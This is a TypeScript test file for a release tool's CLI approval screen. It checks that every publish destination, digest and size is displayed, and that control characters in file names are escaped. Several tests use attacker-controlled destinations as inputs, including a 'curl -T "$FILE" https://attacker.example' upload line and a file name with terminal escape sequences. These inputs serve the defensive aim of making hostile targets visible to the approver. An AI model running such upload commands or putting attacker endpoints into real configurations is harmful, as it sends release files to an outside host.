import { approvalLines } from '../../src/cli/screens/approval.js';
import { colours } from '../../src/cli/render/paint.js';
import type { Manifest, SealedArtifact } from '../../src/engine/ledger/manifest.js';
import { targetsOf } from '../../src/engine/gates/targets.js';
import { gateStatus } from '../../src/engine/gates/gate-rules.js';
import type { Digest } from '../../src/model/digest.js';
import type { Target } from '../../src/model/target.js';
import type { Plan } from '../../src/model/plan.js';
import { inTheMiddle } from '../cli/a-run.js';
import { aTarget } from '../activities/publish/release.js';
import { aGate, aRule, SEALED } from '../engine/a-gate.js';
import { aPlan, aStep } from '../support/run-body.js';

const digest = (no: number): Digest => `sha256:${String(no).padStart(64, '0')}`;
const wheel = (no: number, name = `skiff_${no}-1.2.3.whl`): SealedArtifact => ({
  ...{ kind: 'wheel', name, digest: digest(no), size: no, labels: {}, step: `wheels/w${no}`, notes: [] },
});
const publish = (target: Target, ...of: readonly number[]) =>
  of.map((no) =>
    aStep(
      'publishArtifacts',
      { target, of: [`wheels/w${no}`], tags: [] },
      { id: `publish/${target.name}/w${no}`, stage: 'publish' },
    ),
  );

function screen(steps: Plan['steps'], artifacts: readonly SealedArtifact[], all: boolean, opened?: Plan): string {
  const plan = aPlan({ steps, profile: { name: 'live', rehearsal: false } });
  const manifest: Manifest = {
    ...{ slipway: 1, release: plan.release, source: plan.source, artifacts, evidence: [] },
    ...{ done: [], dropped: [], notRun: [], skipped: [], findings: [] },
  };
  const index = { name: 'index', kind: 'python', address: 'https://index.example/', repository: null } as const;
  const targets = opened ? targetsOf(opened, (address) => address) : [index];
  const gate = gateStatus(aRule(), aGate({ targets }), 0);
  return approvalLines({ plan, manifest, gate, status: inTheMiddle(), all }, colours(false)).join('\n');
}

const index = aTarget({ name: 'index', address: 'service:index' });
const numbers = (count: number): readonly number[] => Array.from({ length: count }, (_, at) => at + 1);

test("[M4] given a file for an attacker's address, then it is shown there, with digest and size", () => {
  const theirs = aTarget({ name: 'mirror', address: 'https://attacker.example/' });
  const shown = screen([...publish(index, 1), ...publish(theirs, 2)], [wheel(1), wheel(2)], true);
  expect(shown).toContain(
    [
      'index (python https://index.example/) gets 1 file, 1 B:',
      `  skiff_1-1.2.3.whl  ${digest(1)}  1 B`,
      'mirror (python https://attacker.example/) gets 1 file, 2 B:',
      `  skiff_2-1.2.3.whl  ${digest(2)}  2 B`,
    ].join('\n'),
  );
  expect(shown).toContain(`manifest ${SEALED}`);
});

test('[M4] given a hundred files, then --show lists all; without it the screen counts the rest', () => {
  const all = numbers(100);
  const [steps, artifacts] = [publish(index, ...all), all.map((no) => wheel(no))];
  expect(screen(steps, artifacts, true)).toContain(`skiff_100-1.2.3.whl  ${digest(100)}`);
  expect(screen(steps, artifacts, false)).toContain('and 60 more: slipway approve GATE --show');
});

test('[M4] given control characters in a name, then they are escaped; unpublished files are listed too', () => {
  const shown = screen(publish(index, 1), [wheel(1, 'skiff\u001b[2K\u001b[1A-1.2.3.whl'), wheel(2)], true);
  expect(shown).not.toContain('\u001b');
  expect(shown).toContain(`Sealed, and published nowhere:\n  skiff_2-1.2.3.whl  ${digest(2)}  (wheels/w2)`);
});

test("[M4] given a bucket on an attacker's server, then that server is shown and signed", () => {
  const extra = { kind: 's3' as const, path: '{file}', endpoint: 'https://attacker.example' };
  const files = aTarget({ name: 'files', kind: 's3', address: 's3://releases/skiff', extra });
  const plan = aPlan({ steps: publish(files, 1) });
  expect(targetsOf(plan, (address) => address)).toMatchObject([
    { address: 's3://releases/skiff on https://attacker.example' },
  ]);
  expect(screen(plan.steps, [wheel(1)], true, plan)).toContain(
    'files (s3 s3://releases/skiff on https://attacker.example) gets 1 file',
  );
});

test('[M4] given an upload line, a git tag and a moving name, then each is shown', () => {
  const upload = 'curl -T "$FILE" https://attacker.example';
  const lines = { kind: 'command' as const, observe: 'true', upload, undo: null, secrets: [] };
  const conda = aTarget({ name: 'conda', kind: 'command', address: 'https://conda.example/', extra: lines });
  const named = { kind: 'git-tag' as const, tag: 'v1.2.3', message: '', commit: '0'.repeat(40) };
  const tag = aTarget({ name: 'tag', kind: 'git-tag', address: 'https://git.example/', extra: named });
  const moves = { target: conda, name: 'latest', version: '1.2.3', to: 'images/skiff', when: 'always' as const };
  const steps = [...publish(conda, 1), ...publish(tag, 1), aStep('movePointer', moves, { id: 'point/latest' })];
  const shown = screen(steps, [wheel(1)], true);
  expect(shown).toContain(`sent by: ${upload}`);
  expect(shown).toContain(`tag v1.2.3 on commit ${'0'.repeat(40)}`);
  expect(shown).toContain('conda: latest to images/skiff, always');
});
